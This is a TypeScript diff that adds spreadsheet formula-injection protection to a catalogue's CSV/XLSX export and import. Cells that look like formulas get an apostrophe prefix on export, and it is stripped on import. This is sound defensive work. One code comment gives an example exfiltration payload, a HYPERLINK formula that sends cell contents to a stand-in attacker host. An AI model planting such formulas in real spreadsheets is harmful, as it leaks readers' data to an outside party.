@@ -80,11 +80,28 @@ export function catalogueToRows(catalogue: Pick<CatalogueFile, "blocks" | "bonus
   ];
 }
 
+// A cell that starts with one of these is a formula to Excel and LibreOffice: a name such as
+// =HYPERLINK("https://evil.example?"&A1) in a published catalogue would run on the reader's
+// machine. Written with a leading apostrophe it is text; reading strips that apostrophe again.
+const FORMULA_START = /^[=+\-@\t\r]/;
+
+/** A cell value safe to open in a spreadsheet: a formula-like value becomes text. */
+export function spreadsheetSafe(value: string): string {
+  return FORMULA_START.test(value) ? `'${value}` : value;
+}
+
+/** The value a spreadsheetSafe cell was made from. */
+export function fromSpreadsheetSafe(value: string): string {
+  return value.startsWith("'") && FORMULA_START.test(value.slice(1)) ? value.slice(1) : value;
+}
+
+/** The cells of one row in column order, each spreadsheetSafe: for CSV and XLSX alike. */
+export function sheetCells(row: SheetRow): string[] {
+  return SHEET_COLUMNS.map((column) => spreadsheetSafe(row[column] ?? ""));
+}
+
 export function rowsToCsv(rows: SheetRow[]): string {
-  return Papa.unparse({
-    fields: [...SHEET_COLUMNS],
-    data: rows.map((row) => SHEET_COLUMNS.map((c) => row[c] ?? "")),
-  });
+  return Papa.unparse({ fields: [...SHEET_COLUMNS], data: rows.map(sheetCells) });
 }
 
 export type SheetParseResult =
@@ -110,8 +127,14 @@ export function catalogueFromRows(
   const decimalText = (value: string | undefined) =>
     blank(value) ? null : (value ?? "").trim().replace(",", ".");
 
-  rows.forEach((row, index) => {
+  rows.forEach((cells, index) => {
     const line = lineOf(index);
+    const row: SheetRow = Object.fromEntries(
+      Object.entries(cells).map(([column, value]) => [
+        column,
+        typeof value === "string" ? fromSpreadsheetSafe(value) : value,
+      ]),
+    );
     const kind = row.soort?.trim().toLowerCase();
     if (Object.values(row).every(blank)) return;
     if (kind === "bouwblok") {
